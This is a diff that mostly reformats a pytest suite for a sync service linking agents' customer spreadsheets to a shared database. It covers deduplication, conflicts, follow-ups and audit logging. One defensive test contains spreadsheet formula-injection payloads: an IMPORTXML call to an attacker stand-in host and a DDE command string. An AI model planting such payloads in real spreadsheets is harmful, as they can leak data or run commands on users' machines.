@@ -8,16 +8,26 @@ import pytest
 from sqlalchemy import select
 
 from sync import service
-from sync.dedupe import format_phone
 from sync.cells import cell_text
+from sync.dedupe import format_phone
 from sync.model import Agent, AuditEvent, Conflict, Customer, FollowUp, Tracking
 from tests.world import World
 
-AHMED_ALI = {"Name": "Ahmed Mohamed", "Phone": "+20 100 123 4567", "Email": "ahmed@example.com",
-             "Desired university": "Cairo University", "Status": "In progress",
-             "Notes": "Customer interested in scholarship"}
-AHMED_SARA = {"Name": "Ahmed Mohamed", "Phone": 1001234567, "Desired university": "Alexandria University",
-              "Status": "negotiating", "Notes": "Customer also interested in medical program"}
+AHMED_ALI = {
+    "Name": "Ahmed Mohamed",
+    "Phone": "+20 100 123 4567",
+    "Email": "ahmed@example.com",
+    "Desired university": "Cairo University",
+    "Status": "In progress",
+    "Notes": "Customer interested in scholarship",
+}
+AHMED_SARA = {
+    "Name": "Ahmed Mohamed",
+    "Phone": 1001234567,
+    "Desired university": "Alexandria University",
+    "Status": "negotiating",
+    "Notes": "Customer also interested in medical program",
+}
 
 
 @pytest.fixture
@@ -45,8 +55,10 @@ def test_same_phone_typed_by_two_agents_is_one_customer_with_two_private_trackin
         assert customer.phone == "+201001234567"
         assert customer.number == f"CUS-{dt.date.today().year}-00001"
         statuses = {t.agent.key: (t.status, t.desired_university) for t in customer.trackings}
-    assert statuses == {"ali": ("In progress", "Cairo University"),
-                        "sara": ("Negotiating", "Alexandria University")}
+    assert statuses == {
+        "ali": ("In progress", "Cairo University"),
+        "sara": ("Negotiating", "Alexandria University"),
+    }
     ali, sara = world.rows("ali")[0], world.rows("sara")[0]
     assert ali["Customer #"] == sara["Customer #"] == customer.number
     assert ali["Also tracked by"].startswith("Sara Ahmed (since ")
@@ -92,7 +104,10 @@ def test_changed_shared_field_becomes_one_conflict_and_stays_in_the_agents_cell(
     conflicts = open_conflicts(world, "shared_field")
     assert len(conflicts) == 1
     assert (conflicts[0].field, conflicts[0].current_value, conflicts[0].proposed_value) == (
-        "email", "ahmed@example.com", "ahmed.m@example.com")
+        "email",
+        "ahmed@example.com",
+        "ahmed.m@example.com",
+    )
     sara = world.rows("sara")[0]
     assert sara["Email"] == "ahmed.m@example.com"
     assert "awaits an admin" in sara["Sync notes"]
@@ -184,7 +199,9 @@ def test_invalid_phone_stays_in_the_sheet_with_a_note_until_fixed(world):
 
 
 def test_same_phone_twice_in_one_tab_syncs_one_row_and_flags_the_other(world):
-    world.type_rows("ali", [AHMED_ALI, {"Name": "Ahmed M.", "Phone": "01001234567", "Notes": "again"}])
+    world.type_rows(
+        "ali", [AHMED_ALI, {"Name": "Ahmed M.", "Phone": "01001234567", "Notes": "again"}]
+    )
     world.cycle()
 
     rows = world.rows("ali")
@@ -200,7 +217,9 @@ def test_customer_number_pasted_on_another_phone_is_not_trusted(world):
     world.type_rows("ali", [AHMED_ALI, {"Name": "Fatima Ali", "Phone": "0111 222 3344"}])
     world.cycle()
     ahmed_number = world.rows("ali")[0]["Customer #"]
-    world.type_rows("ali", [{"Customer #": ahmed_number, "Name": "Omar Hassan", "Phone": "0122 333 4455"}])
+    world.type_rows(
+        "ali", [{"Customer #": ahmed_number, "Name": "Omar Hassan", "Phone": "0122 333 4455"}]
+    )
     world.cycle()
 
     omar = world.rows("ali")[2]
@@ -213,7 +232,9 @@ def test_customer_number_pasted_on_another_phone_is_not_trusted(world):
 
 
 def test_sorting_rows_never_rebinds_them(world):
-    world.type_rows("ali", [AHMED_ALI, {"Name": "Fatima Ali", "Phone": "0111 222 3344", "Notes": "f"}])
+    world.type_rows(
+        "ali", [AHMED_ALI, {"Name": "Fatima Ali", "Phone": "0111 222 3344", "Notes": "f"}]
+    )
     world.cycle()
     grid = world.grid("ali")
     world.backend.set_tab(world.source("ali"), "Customers", [grid[0], grid[2], grid[1]])
@@ -223,7 +244,10 @@ def test_sorting_rows_never_rebinds_them(world):
     assert report.customers_created == 0 and report.trackings_archived == 0
     with world.session() as s:
         notes = dict(s.execute(select(Customer.name, Tracking.notes).join(Tracking)).all())
-    assert notes == {"Ahmed Mohamed": "Customer interested in scholarship", "Fatima Ali": "fatima's notes"}
+    assert notes == {
+        "Ahmed Mohamed": "Customer interested in scholarship",
+        "Fatima Ali": "fatima's notes",
+    }
 
 
 def test_write_back_never_overwrites_a_cell_typed_after_the_read(world):
@@ -251,7 +275,9 @@ def test_write_back_never_overwrites_a_cell_typed_after_the_read(world):
 
 def test_text_that_looks_like_a_formula_is_carried_as_text(world):
     payload = '=IMPORTXML("http://evil.example/x","//a")'
-    world.type_rows("ali", [{"Name": payload, "Phone": "01001234567", "Notes": "+cmd|' /C calc'!A0"}])
+    world.type_rows(
+        "ali", [{"Name": payload, "Phone": "01001234567", "Notes": "+cmd|' /C calc'!A0"}]
+    )
     world.type_rows("sara", [{"Phone": "01001234567", "Notes": "@SUM(1+1)"}])
     world.cycle()
 
@@ -265,10 +291,30 @@ def test_text_that_looks_like_a_formula_is_carried_as_text(world):
 def test_follow_ups_get_numbers_and_stay_with_their_agent(world):
     world.type_rows("ali", [AHMED_ALI])
     world.type_rows("sara", [AHMED_SARA])
-    world.type_rows("ali", [{"Phone": "01001234567", "Date": "10/01/2026", "Type": "call",
-                             "Notes": "Called customer"}], tab="Follow-ups")
-    world.type_rows("sara", [{"Phone": "+201001234567", "Date": dt.date(2026, 1, 11), "Type": "Email",
-                              "Notes": "Sent medical program information"}], tab="Follow-ups")
+    world.type_rows(
+        "ali",
+        [
+            {
+                "Phone": "01001234567",
+                "Date": "10/01/2026",
+                "Type": "call",
+                "Notes": "Called customer",
+            }
+        ],
+        tab="Follow-ups",
+    )
+    world.type_rows(
+        "sara",
+        [
+            {
+                "Phone": "+201001234567",
+                "Date": dt.date(2026, 1, 11),
+                "Type": "Email",
+                "Notes": "Sent medical program information",
+            }
+        ],
+        tab="Follow-ups",
+    )
     world.cycle()
 
     ali = world.rows("ali", "Follow-ups")
@@ -304,7 +350,10 @@ def test_first_to_complete_marks_the_later_agent_lost_to_colleague(world):
     world.cycle()
 
     with world.session() as s:
-        got = {t.agent.key: (t.commission_pct, t.lost_to_colleague) for t in s.execute(select(Tracking)).scalars()}
+        got = {
+            t.agent.key: (t.commission_pct, t.lost_to_colleague)
+            for t in s.execute(select(Tracking)).scalars()
+        }
     assert got == {"ali": (100.0, False), "sara": (0.0, True)}
     assert "lost to colleague" in world.rows("sara")[0]["Sync notes"]
     assert world.rows("ali")[0]["Commission %"] == "100"
@@ -342,7 +391,10 @@ def test_every_change_writes_an_audit_event(world):
     world.cycle()
 
     with world.session() as s:
-        events = [(e.action, e.before, e.after) for e in s.execute(select(AuditEvent).order_by(AuditEvent.id)).scalars()]
+        events = [
+            (e.action, e.before, e.after)
+            for e in s.execute(select(AuditEvent).order_by(AuditEvent.id)).scalars()
+        ]
     actions = [a for a, _, _ in events]
     assert actions[:2] == ["create_customer", "add_tracking"]
     assert ("update_tracking", {"status": "In progress"}, {"status": "Negotiating"}) in events
